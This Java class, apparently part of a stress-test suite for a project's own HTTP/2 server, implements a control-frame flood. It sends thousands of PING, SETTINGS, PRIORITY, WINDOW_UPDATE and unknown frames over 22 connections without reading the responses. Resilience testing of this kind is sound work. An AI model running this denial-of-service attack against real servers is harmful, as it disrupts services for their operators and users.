package dev.jobwise.attack;

import static dev.jobwise.server.testing.Http2Bytes.PING;
import static dev.jobwise.server.testing.Http2Bytes.PRIORITY;
import static dev.jobwise.server.testing.Http2Bytes.SETTINGS;
import static dev.jobwise.server.testing.Http2Bytes.WINDOW_UPDATE;
import static dev.jobwise.server.testing.Http2Bytes.frame;
import static dev.jobwise.server.testing.Http2Bytes.number;
import static dev.jobwise.server.testing.Http2Bytes.start;
import static dev.jobwise.server.testing.Http2Bytes.times;

import java.time.Duration;

/**
 * Sends pings, settings and similar frames as fast as it can, on connections whose responses it
 * does not read.
 */
final class Http2ControlFramesAttack implements Attack {

  @Override
  public String name() {
    return "control-frames";
  }

  @Override
  public void run(Target target, Duration length) throws InterruptedException {
    byte[][] floods = {
      times(4000, frame(PING, 0, 0, new byte[8])),
      times(4000, frame(SETTINGS, 0, 0)),
      times(4000, frame(PRIORITY, 0, 3, new byte[5])),
      times(4000, number(WINDOW_UPDATE, 0, 1)),
      times(4000, frame(0x42, 0, 0)),
    };
    new Crowd(22, false, Duration.ofMillis(1))
        .speak(target, length, turn -> turn == 0 ? start() : floods[turn % floods.length]);
  }
}
